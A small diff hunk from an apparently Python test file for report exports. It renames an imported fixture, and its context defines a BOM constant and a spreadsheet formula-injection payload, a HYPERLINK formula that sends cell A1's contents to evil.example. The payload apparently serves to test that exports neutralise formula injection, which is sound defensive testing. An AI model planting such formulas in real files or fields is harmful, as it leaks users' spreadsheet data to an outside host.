@@ -29,7 +29,7 @@ from app.floor.models import Post
 from app.people.models import Participant
 from app.people.sectors import Sector
 from app.reports.exports import TABLES, export_file
-from tests.agreements.conftest import _no_render_left_running, make_signed_agreement  # noqa: F401  (fixtures)
+from tests.agreements.conftest import _no_task_left_running, make_signed_agreement  # noqa: F401  (fixtures)
 
 BOM = b"\xef\xbb\xbf"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'
